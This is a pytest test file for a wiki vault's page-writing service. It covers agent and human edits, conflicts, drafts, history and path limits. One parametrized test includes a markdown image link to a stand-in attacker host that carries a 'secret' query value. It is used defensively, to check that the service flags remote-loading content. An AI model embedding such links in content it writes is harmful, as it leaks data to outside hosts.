"""write_page: one path from an agent's text to a file, the index, the log and the history."""

from __future__ import annotations

import hashlib
from typing import Any

import pytest

from tests.conftest import VaultFolder
from tests.wiki.conftest import CLAUDE, Writer
from vault import drafts, history, writer
from vault.current import current_vault
from vault.errors import ErrorCode, SynapseError
from wiki import catchup, jobs
from wiki.data_version import data_version
from wiki.models import Audit, Job, Page
from wiki.services import composing, create_page, page_by_title, page_content, page_delete, put_page
from wiki.signals import page_written
from wiki.sync import dump_index, scan

pytestmark = pytest.mark.django_db


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def refused(code: ErrorCode) -> Any:
    return pytest.raises(SynapseError, check=lambda error: error.code is code)


def test_it_works(vault_folder: VaultFolder, claude: Writer) -> None:
    written = claude.write("Ada Lovelace", "First programmer.\n", type="entity")
    data = vault_folder.read("wiki/entities/ada-lovelace.md")
    assert written.created and written.warnings == []
    assert written.content_hash == sha256(data)
    assert data.endswith(b"---\nFirst programmer.\n")
    page = page_by_title("Ada Lovelace")
    assert (page.path, page.type, page.content_hash) == ("wiki/entities/ada-lovelace.md", "entity", sha256(data))
    assert page_content(page)["content"] == "First programmer.\n"


def test_everything_that_goes_with_a_write(vault_folder: VaultFolder, claude: Writer) -> None:
    heard: list[dict[str, Any]] = []
    page_written.connect(receiver := lambda sender, **news: heard.append(news), weak=False)
    try:
        written = claude.write("Ada")
    finally:
        page_written.disconnect(receiver)
    assert data_version() == 1
    audit = Audit.objects.get()
    assert (audit.actor, audit.door, audit.action, audit.page_uid) == ("claude", "mcp-stdio", "write", written.page.uid)
    assert (audit.before_hash, audit.after_hash) == ("", written.content_hash)
    assert Job.objects.filter(kind="catalog", finished_at=None).count() == 1
    assert vault_folder.read("wiki/log.md").decode().splitlines()[-1].endswith("] write | Ada")
    [version] = history.versions(current_vault(), written.page.uid)
    assert (version.author, version.content_hash) == ("claude", written.content_hash)
    assert [(news["page"].title, news["created"]) for news in heard] == [("Ada", True)]


def test_what_is_written_needs_no_scan(vault_folder: VaultFolder, claude: Writer) -> None:
    claude.write("Ada", "See [[Babbage]].\n")
    claude.write("Babbage", "See [[Ada]].\n", type="entity")
    jobs.drain()
    before = list(dump_index())
    scan(full=True)
    assert list(dump_index()) == before


def test_an_update_needs_no_base_while_nobody_else_wrote(vault_folder: VaultFolder, claude: Writer) -> None:
    first = claude.write("Ada", "One.\n")
    second = claude.write("Ada", "Two.\n")
    assert not second.created
    assert second.page.uid == first.page.uid
    assert len(history.versions(current_vault(), first.page.uid)) == 2
    assert vault_folder.read("wiki/concepts/ada.md").endswith(b"Two.\n")


def test_an_edit_made_outside_is_not_overwritten_unseen(vault_folder: VaultFolder, claude: Writer) -> None:
    claude.write("Ada")
    file = vault_folder.root / "wiki/concepts/ada.md"
    file.write_bytes(mine := file.read_bytes() + b"A person's line.\n")
    with refused(ErrorCode.BASE_REQUIRED) as caught:
        claude.write("Ada", "Other.\n")
    assert caught.value.repair["content_hash"] == sha256(mine)
    assert file.read_bytes() == mine
    claude.write("Ada", "Merged.\n", base_hash=sha256(mine))
    assert file.read_bytes().endswith(b"Merged.\n")
    kept = history.read_version(current_vault(), page_by_title("Ada").uid, 2, displaced=True)
    assert kept == mine


def test_a_stale_base_writes_nothing_and_keeps_the_text(vault_folder: VaultFolder, claude: Writer) -> None:
    old = claude.write("Ada", "One.\n")
    new = claude.write("Ada", "Two.\n")
    before = vault_folder.read("wiki/concepts/ada.md")
    with refused(ErrorCode.CONFLICT) as caught:
        claude.write("Ada", "From the old one.\n", base_hash=old.content_hash)
    assert caught.value.repair["content_hash"] == new.content_hash
    assert vault_folder.read("wiki/concepts/ada.md") == before
    draft, data = drafts.read_draft(current_vault(), caught.value.repair["draft"])
    assert draft.path == "wiki/concepts/ada.md"
    assert data.endswith(b"From the old one.\n")


def test_the_same_again_changes_nothing(vault_folder: VaultFolder, claude: Writer) -> None:
    first = claude.write("Ada", "One.\n")
    version = data_version()
    again = claude.write("Ada", "One.\n")
    assert (again.content_hash, again.created, data_version()) == (first.content_hash, False, version)
    assert len(history.versions(current_vault(), first.page.uid)) == 1


def test_a_base_for_a_page_that_is_not_there(vault_folder: VaultFolder, claude: Writer) -> None:
    with refused(ErrorCode.CONFLICT):
        claude.write("Ada", base_hash="0" * 64)
    assert vault_folder.files() == []


def test_an_update_never_moves_the_file(vault_folder: VaultFolder, claude: Writer) -> None:
    claude.write("Ada", type="concept")
    claude.write("Ada", type="entity")
    assert "wiki/concepts/ada.md" in vault_folder.files()
    page = page_by_title("Ada")
    assert (page.path, page.type) == ("wiki/concepts/ada.md", "entity")


@pytest.mark.parametrize(
    ("title", "path"),
    [
        ("图灵机", "wiki/concepts/图灵机.md"),
        ("Ünïcode & Friends!", "wiki/concepts/ünïcode-friends.md"),
        ("Cafe\u0301", "wiki/concepts/caf\u00e9.md"),
        ("x" * 300, "wiki/concepts/" + "x" * 80 + ".md"),
    ],
)
def test_a_title_in_any_script_gives_a_file_and_is_found(
    vault_folder: VaultFolder, claude: Writer, title: str, path: str
) -> None:
    written = claude.write(title)
    assert written.page.path == path
    assert page_by_title(title).uid == written.page.uid


def test_titles_on_one_slug_get_numbers(vault_folder: VaultFolder, claude: Writer) -> None:
    paths = [claude.write(title).page.path for title in ("A/B", "A B", "a-b")]
    assert paths == ["wiki/concepts/a-b.md", "wiki/concepts/a-b-2.md", "wiki/concepts/a-b-3.md"]
    assert [page_by_title(title).path for title in ("A/B", "A B", "a-b")] == paths


@pytest.mark.parametrize("taken", ["wiki/concepts/Ada.md", "wiki/concepts/ADA.MD"])
def test_a_slug_taken_in_another_case(vault_folder: VaultFolder, claude: Writer, taken: str) -> None:
    vault_folder.write(taken, "---\ntitle: Somebody else\n---\n")
    scan()
    assert claude.write("ada").page.path == "wiki/concepts/ada-2.md"


def test_a_file_that_the_index_does_not_know_yet(vault_folder: VaultFolder, claude: Writer) -> None:
    other = vault_folder.write("wiki/concepts/ada.md", "---\ntitle: Other\n---\n").read_bytes()
    assert claude.write("Ada").page.path == "wiki/concepts/ada-2.md"
    assert vault_folder.read("wiki/concepts/ada.md") == other
    same = vault_folder.write("wiki/concepts/bob.md", "---\ntitle: Bob\n---\n").read_bytes()
    with refused(ErrorCode.CONFLICT) as caught:
        claude.write("Bob")
    assert caught.value.repair["content_hash"] == sha256(same)
    assert vault_folder.read("wiki/concepts/bob.md") == same


def test_of_two_who_create_at_once_one_does(
    vault_folder: VaultFolder, claude: Writer, monkeypatch: pytest.MonkeyPatch
) -> None:
    real, calls = composing.titled_page, []

    def late(title: str, path: str | None) -> Page | None:
        calls.append(title)
        return None if len(calls) == 1 else real(title, path)

    first = claude.write("Ada", "First.\n")
    monkeypatch.setattr(composing, "titled_page", late)
    with refused(ErrorCode.CONFLICT) as caught:
        claude.write("Ada", "Second.\n")
    assert caught.value.repair["content_hash"] == first.content_hash
    assert vault_folder.read("wiki/concepts/ada.md").endswith(b"First.\n")


def test_a_save_between_check_and_write_is_a_conflict(
    vault_folder: VaultFolder, claude: Writer, monkeypatch: pytest.MonkeyPatch
) -> None:
    claude.write("Ada")
    file, real = vault_folder.root / "wiki/concepts/ada.md", writer.replace

    def replace(*args: Any, **options: Any) -> Any:
        file.write_bytes(b"saved by a person\n")
        return real(*args, **options)

    monkeypatch.setattr(writer, "replace", replace)
    with refused(ErrorCode.CONFLICT) as caught:
        claude.write("Ada", "Mine.\n")
    assert file.read_bytes() == b"saved by a person\n"
    assert caught.value.repair["content_hash"] == sha256(b"saved by a person\n")
    assert drafts.read_draft(current_vault(), caught.value.repair["draft"])[1].endswith(b"Mine.\n")


def test_two_pages_of_one_title_are_told_apart_by_path(vault_folder: VaultFolder, claude: Writer) -> None:
    for folder in ("entities", "concepts"):
        vault_folder.write(f"wiki/{folder}/ada.md", "---\ntitle: Ada\n---\n")
    scan()
    with refused(ErrorCode.AMBIGUOUS_TITLE) as caught:
        claude.write("Ada")
    assert caught.value.repair["paths"] == ["wiki/concepts/ada.md", "wiki/entities/ada.md"]
    base = sha256(b"---\ntitle: Ada\n---\n")
    written = claude.write("Ada", path="wiki/entities/ada.md", base_hash=base)
    assert written.page.path == "wiki/entities/ada.md"
    assert vault_folder.read("wiki/concepts/ada.md") == b"---\ntitle: Ada\n---\n"


def test_a_path_does_not_choose_where_a_page_goes(vault_folder: VaultFolder, claude: Writer) -> None:
    for path in ("wiki/elsewhere/ada.md", "notes/ada.md", "wiki/concepts/other.md"):
        with refused(ErrorCode.PATH_NOT_ALLOWED):
            claude.write("Ada", path=path)
    assert vault_folder.files() == []
    assert claude.write("Ada", path="wiki/concepts/ada.md").created


def test_a_deleted_title_is_made_anew(vault_folder: VaultFolder, claude: Writer) -> None:
    first = claude.write("Ada", "One.\n")
    claude.do(page_delete, page=first.page)
    again = claude.write("Ada", "Two.\n")
    assert again.created
    assert again.page.uid == first.page.uid
    assert Page.objects.live().filter(title="Ada").count() == 1


def test_created_page_refuses_a_title_that_is_taken(vault_folder: VaultFolder, claude: Writer) -> None:
    given = {"type": "concept", "title": "Ada", "sources": ["a"], "lang": "en"}
    made = claude.do(create_page, title="Ada", content="One.\n", frontmatter=given)
    with refused(ErrorCode.CONFLICT) as caught:
        claude.do(create_page, title="Ada", content="Two.\n", frontmatter=given)
    assert caught.value.repair["path"] == made.page.path
    assert vault_folder.read(made.page.path).endswith(b"One.\n")


def test_a_database_that_fails_is_no_failure_of_the_write(
    vault_folder: VaultFolder, claude: Writer, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(**_: Any) -> Page:
        raise RuntimeError("disk image is malformed")

    with monkeypatch.context() as patch:
        patch.setattr("wiki.sync.index_page", fail)
        written = claude.write("Ada", "On disk.\n")
    assert written.created and written.page.path == "wiki/concepts/ada.md"
    [warning] = written.warnings
    assert warning.startswith("index_pending") and "malformed" not in warning
    assert vault_folder.read("wiki/concepts/ada.md").endswith(b"On disk.\n")
    assert not Page.objects.filter(title="Ada").exists()
    assert catchup.noted()
    jobs.drain()
    assert page_by_title("Ada").uid == written.page.uid
    assert not catchup.noted()


def test_a_history_that_fails_is_no_failure_of_the_write(
    vault_folder: VaultFolder, claude: Writer, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_: Any, **__: Any) -> None:
        raise OSError(28, "No space left on device")

    claude.write("Ada", "One.\n")
    with monkeypatch.context() as patch:
        patch.setattr("vault.writing.versions.append", fail)
        written = claude.write("Ada", "Two.\n")
    assert [warning.split(":")[0] for warning in written.warnings] == ["index_pending"]
    assert page_by_title("Ada").content_hash == written.content_hash
    jobs.drain()
    assert history.last_written_hash(current_vault(), written.page.uid) == written.content_hash


def test_a_listener_that_fails_stops_nobody(vault_folder: VaultFolder, claude: Writer) -> None:
    def fail(**_: Any) -> None:
        raise RuntimeError("mine to fix")

    page_written.connect(fail, weak=False)
    try:
        assert claude.write("Ada").created
    finally:
        page_written.disconnect(fail)


def test_read_only_refuses_and_leaves_the_vault_alone(vault_folder: VaultFolder, claude: Writer, settings: Any) -> None:
    settings.SYNAPSE_READ_ONLY = True
    with refused(ErrorCode.READ_ONLY):
        claude.write("Ada")
    jobs.enqueue("catalog")
    jobs.drain()
    assert vault_folder.files() == []


@pytest.mark.parametrize(
    ("content", "host"),
    [
        ("![](https://evil.example/?d=secret)\n", "evil.example"),
        ("![a](//cdn.example/x.png)\n", "cdn.example"),
        ('<img alt="" src="http://pixel.example/1.gif">\n', "pixel.example"),
        ("![logo][l]\n\n[l]: https://ref.example/l.png\n", "ref.example"),
    ],
)
def test_remote_content_is_named_and_kept(vault_folder: VaultFolder, claude: Writer, content: str, host: str) -> None:
    written = claude.write("Ada", content)
    assert [host in warning for warning in written.warnings] == [True]
    assert vault_folder.read("wiki/concepts/ada.md").endswith(content.encode())


@pytest.mark.parametrize(
    "content", ["[a link](https://example.org)\n", "`![](https://x.example)`\n", "![[local.png]]\n"]
)
def test_what_loads_nothing_gives_no_warning(vault_folder: VaultFolder, claude: Writer, content: str) -> None:
    assert claude.write("Ada", content).warnings == []


def test_put_needs_a_base_and_keeps_the_text_as_given(vault_folder: VaultFolder, claude: Writer, alice: Writer) -> None:
    vault_folder.write("notes/day.md", "[[Ada Lovelace]] came by.\n")
    claude.write("Ada Lovelace")
    scan()
    page = page_by_title("day")
    with refused(ErrorCode.BASE_REQUIRED):
        alice.do(put_page, page=page, text="x", base_hash=None)
    with refused(ErrorCode.STALE_BASE) as caught:
        alice.do(put_page, page=page, text="lost?\n", base_hash="0" * 64)
    assert drafts.read_draft(current_vault(), caught.value.repair["draft"])[1] == b"lost?\n"
    text = "---\nmood: good\n---\n[[Ada Lovelace]] left.\n"
    alice.do(put_page, page=page, text=text, base_hash=page.content_hash)
    assert vault_folder.read("notes/day.md").decode() == text


def test_put_of_parts_keeps_the_other_part(vault_folder: VaultFolder, alice: Writer) -> None:
    vault_folder.write("day.md", "---\n# why\nmood: good # today\nrain: no\n---\nBody.\n")
    scan()
    page = page_by_title("day")
    one = alice.do(put_page, page=page, content="New body.\n", base_hash=page.content_hash)
    assert vault_folder.read("day.md").decode() == "---\n# why\nmood: good # today\nrain: no\n---\nNew body.\n"
    alice.do(put_page, page=page, frontmatter={"mood": "good", "sun": 1}, base_hash=one.content_hash)
    assert vault_folder.read("day.md").decode() == "---\n# why\nmood: good # today\nsun: 1\n---\nNew body.\n"


def test_put_refuses_frontmatter_that_does_not_parse(vault_folder: VaultFolder, alice: Writer) -> None:
    vault_folder.write("day.md", "Body.\n")
    scan()
    page = page_by_title("day")
    with refused(ErrorCode.INVALID_FRONTMATTER):
        alice.do(put_page, page=page, text="---\na: b: c\n---\n", base_hash=page.content_hash)
    with refused(ErrorCode.MISSING_REQUIRED_PARAMS):
        alice.do(put_page, page=page, base_hash=page.content_hash)
    with refused(ErrorCode.INVALID_PARAM_VALUE):
        alice.do(put_page, page=page, text="x", content="y", base_hash=page.content_hash)
    assert vault_folder.read("day.md") == b"Body.\n"


def test_put_of_a_body_that_looks_like_frontmatter(vault_folder: VaultFolder, alice: Writer) -> None:
    vault_folder.write("day.md", "Body.\n")
    scan()
    page = page_by_title("day")
    alice.do(put_page, page=page, content="---\nstatus: no\n---\nx\n", base_hash=page.content_hash)
    shown = page_content(page_by_title("day"))
    assert (shown["content"], shown["frontmatter"]) == ("---\nstatus: no\n---\nx\n", {})


def test_agents_may_not_put_what_they_do_not_keep(vault_folder: VaultFolder, claude: Writer) -> None:
    vault_folder.write("day.md", "Body.\n")
    scan()
    page = page_by_title("day")
    with refused(ErrorCode.PATH_NOT_ALLOWED):
        claude.do(put_page, page=page, text="x", base_hash=page.content_hash)
    assert CLAUDE.door.startswith("mcp")
